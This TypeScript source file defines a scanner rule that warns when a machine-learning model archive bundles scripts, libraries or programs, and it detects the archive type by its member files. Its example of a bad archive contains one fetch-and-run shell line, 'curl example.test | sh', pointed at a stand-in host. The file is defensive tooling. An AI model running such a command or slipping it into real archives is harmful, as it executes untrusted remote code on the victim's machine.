import type { ArchiveFacts } from '../../formats/facts.ts';
import { bytePlace, quoted } from '../place.ts';
import { defineRule } from '../rule.ts';

const scripts = /\.(?:py|pyc|pyw)$/i;
const programs = /\.(?:so(?:\.[\d.]+)?|dll|dylib|exe|sh|bash|bat|cmd|ps1|jar|scr|com|msi)$/i;

export const bundledCode = defineRule({
  subject: 'archive',
  meta: {
    id: 'archive/bundled-code',
    title: 'A model archive brings code along',
    severity: 'warning',
    description:
      'An archive that is a model (Keras, NeMo, PyTorch with `torch.package` and `torch.export`, skops) holds Python files, libraries or programs, which have no place in it. In an archive of TorchServe or SageMaker a Python handler belongs there: it is information, and only libraries and programs are a warning.',
    why: 'TorchServe runs the handler of every archive it loads, and installs its requirements where that is configured. In other archives nobody looks for a program, until something that the model does runs it.',
    howToFix: 'Read the code before you serve or unpack the archive. Ask why it is there.',
    avoid: [
      {
        file: 'model.keras',
        zip: [
          { name: 'metadata.json', text: '{}' },
          { name: 'config.json', text: '{}' },
          { name: 'assets/install.sh', text: 'curl example.test | sh\n' },
        ],
      },
    ],
    prefer: [
      {
        file: 'model.keras',
        zip: [
          { name: 'metadata.json', text: '{}' },
          { name: 'config.json', text: '{}' },
          { name: 'assets/vocabulary.txt', text: 'a\nb\n' },
        ],
      },
    ],
    references: [
      { title: 'TorchServe documentation: security', url: 'https://github.com/pytorch/serve/blob/master/SECURITY.md' },
    ],
    cwe: [829],
    atlas: ['AML.T0010.003', 'AML.T0011.000'],
    owasp: ['ML06:2023', 'LLM03:2025'],
    nistAiRmf: ['MAP 4.1'],
    euAiAct: ['Article 15(5)'],
    since: '0.1.0',
  },
  check(part, report) {
    const kind = modelKind(part);
    if (kind === null) return;
    const isServed = kind === 'torchserve' || kind === 'sagemaker';
    // PyTorch's own archives keep compiled models below `code/`.
    const files = part.entries.filter(({ name }) => !(kind === 'torch' && /(?:^|\/)code\//.test(name)));
    const told = files.filter(({ name }) => programs.test(name));
    const read = files.filter(({ name }) => scripts.test(name));
    const [first] = told.length > 0 ? told : read;
    if (!first) return;
    const all = [...told, ...read].map(({ name }) => name);
    const more = all.length > 1 ? ` and ${all.length - 1} more` : '';
    report({
      message: `The archive brings code along: ${quoted(first.name)}${more}. Read it before you ${isServed ? 'serve' : 'unpack or load'} the model.`,
      severity: isServed && told.length === 0 ? 'info' : 'warning',
      location: bytePlace(part, first.offset),
      evidence: { files: all.slice(0, 50) },
    });
  },
});

/**
 * What makes an archive one of PyTorch's: the pickle of `torch.save`, the records of `torch.package`
 * (torch/package/package_exporter.py), the format and program of `torch.export` (torch/export/pt2_archive/constants.py).
 */
const torchMember =
  /^(?:[^/]+\/)?(?:data\.pkl|\.data\/(?:extern_modules|python_version)|archive_format|serialized_exported_program\.json)$/;

type ModelKind = 'torchserve' | 'sagemaker' | 'keras' | 'torch' | 'nemo' | 'skops' | null;

const kinds = new WeakMap<ArchiveFacts, ModelKind>();

/** Which kind of model an archive is; null when it is any archive. It is found once, and asked for each text in the archive. */
export function modelKind(archive: ArchiveFacts): ModelKind {
  let kind = kinds.get(archive);
  if (kind === undefined) {
    kind = findModelKind(archive);
    kinds.set(archive, kind);
  }
  return kind;
}

function findModelKind({ entries }: ArchiveFacts): ModelKind {
  const names = new Set(entries.map(({ name }) => name.toLowerCase().replace(/^\.\//, '')));
  // An archive that is packed as a tar has a folder of the model's name around all.
  if ([...names].some((name) => /^(?:[^/]+\/)?mar-inf\/manifest\.json$/.test(name))) return 'torchserve';
  if (names.has('config.json') && names.has('metadata.json')) return 'keras';
  if (names.has('model_config.yaml')) return 'nemo';
  if (names.has('schema.json') && [...names].every((name) => !name.includes('/'))) return 'skops';
  if ([...names].some((name) => torchMember.test(name))) return 'torch';
  // Source: SageMaker Python SDK, "Model Directory Structure".
  return names.has('code/inference.py') || names.has('code/requirements.txt') ? 'sagemaker' : null;
}
